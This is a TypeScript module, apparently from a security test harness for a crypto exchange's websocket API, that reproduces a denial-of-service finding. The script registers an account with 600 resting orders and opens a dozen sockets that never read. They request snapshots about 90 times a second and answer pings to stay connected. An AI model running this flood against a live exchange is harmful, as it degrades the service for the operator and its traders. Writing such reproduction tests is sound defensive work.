// Finding 2: a logged-in socket that never reads asks for the snapshot of its 600 orders again and again; visitors for that of the book.
import { register } from '../accounts.ts';
import type { Attack } from '../attack.ts';
import { openAttackSocket, subscribeText } from '../attack-socket.ts';
import { createCaller } from '../caller.ts';
import { attackerAddress } from '../loopback.ts';
import { restOrders } from '../orders.ts';
import { pace } from '../pace.ts';

const OWN = 2;
const VISITORS = 10;
/** A little under the frames that a socket may say in a second. */
const ASKS_A_SECOND = 90;
const CODES = ['btcusdt', 'ethusdt', 'btcusdc'] as const;
const ORDERS_EACH = 200;

export const deafSnapshots: Attack = {
  name: 'deaf-snapshots',
  says: `${OWN} sockets of a user with ${CODES.length * ORDERS_EACH} resting orders and ${VISITORS} visitors' sockets, none reads; each asks for a snapshot ${ASKS_A_SECOND} times a second and says that it lives`,
  reached: ['sent'],
  prepare: async ({ url }, tally) => {
    const from = attackerAddress(0);
    const caller = createCaller({ url, from });
    const { cookie } = await register(caller, 'deaf-owner');
    for (const code of CODES) tally.add('orders', await restOrders(caller, cookie, code, ORDERS_EACH));
    return async (isOver) => {
      const own = Array.from({ length: OWN }, () => openAttackSocket({ url, from, cookie, tally, isDeaf: true }));
      const visitors = Array.from({ length: VISITORS }, () => openAttackSocket({ url, from, tally, isDeaf: true }));
      const all = [...own, ...visitors];
      await pace(ASKS_A_SECOND * all.length, isOver, (n) => {
        const at = n % all.length;
        all[at]?.send(at < OWN ? subscribeText('orders') : subscribeText('depth', { contractCode: 'btcusdt' }));
        if (n % ASKS_A_SECOND === 0) for (const socket of all) socket.pong();
      });
      for (const socket of all) socket.end();
    };
  },
};
